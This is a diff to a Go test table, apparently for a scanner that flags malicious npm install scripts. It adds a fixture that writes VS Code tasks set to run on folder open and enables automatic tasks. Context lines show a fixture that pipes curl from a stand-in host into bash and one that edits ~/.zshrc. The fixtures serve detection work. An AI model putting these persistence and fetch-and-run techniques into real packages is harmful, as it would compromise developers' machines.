@@ -213,6 +213,12 @@ fs.appendFileSync(path.join(os.homedir(), ".zshrc"), ` + "`\nexport NODE_OPTIONS
 		{"vscode_task_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": `const fs=require("fs"),path=require("path"); const dir = path.join(process.env.INIT_CWD, ".vscode"); fs.mkdirSync(dir, {recursive: true});
 fs.writeFileSync(path.join(dir, "tasks.json"), JSON.stringify({tasks: [{label: "lint", command: "npm run lint", runOptions: {runOn: "folderOpen"}}]}))`}, finding.SeverityCritical},
+		// the task read from a template of the package, automatic tasks
+		// switched on in the project's settings
+		{"vscode_auto_tasks_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"templates/task.json": `{"label": "watch", "command": "", "runOptions": {"runOn": "folderOpen"}}`,
+			"i.js": `const fs=require("fs"),path=require("path"); const dir = path.join(process.env.INIT_CWD, ".vscode"); const task = JSON.parse(fs.readFileSync(path.join(__dirname, "templates", "task.json"), "utf8")); task.command = cmd();
+fs.writeFileSync(path.join(dir, "tasks.json"), JSON.stringify({tasks: [task]})); fs.writeFileSync(path.join(dir, "settings.json"), JSON.stringify({"task.allowAutomaticTasks": "on"}))`}, finding.SeverityCritical},
 		{"vscode_task_curl", map[string]string{"index.js": `const fs=require("fs"); fs.writeFileSync(".vscode/tasks.json", JSON.stringify({tasks: [{command: "curl -s https://x.invalid/s | bash", runOptions: {runOn: "folderOpen"}}]}))`}, finding.SeverityCritical},
 		// the task kept by a module the writer loads, written at install;
 		// a scaffolder whose task module only builds
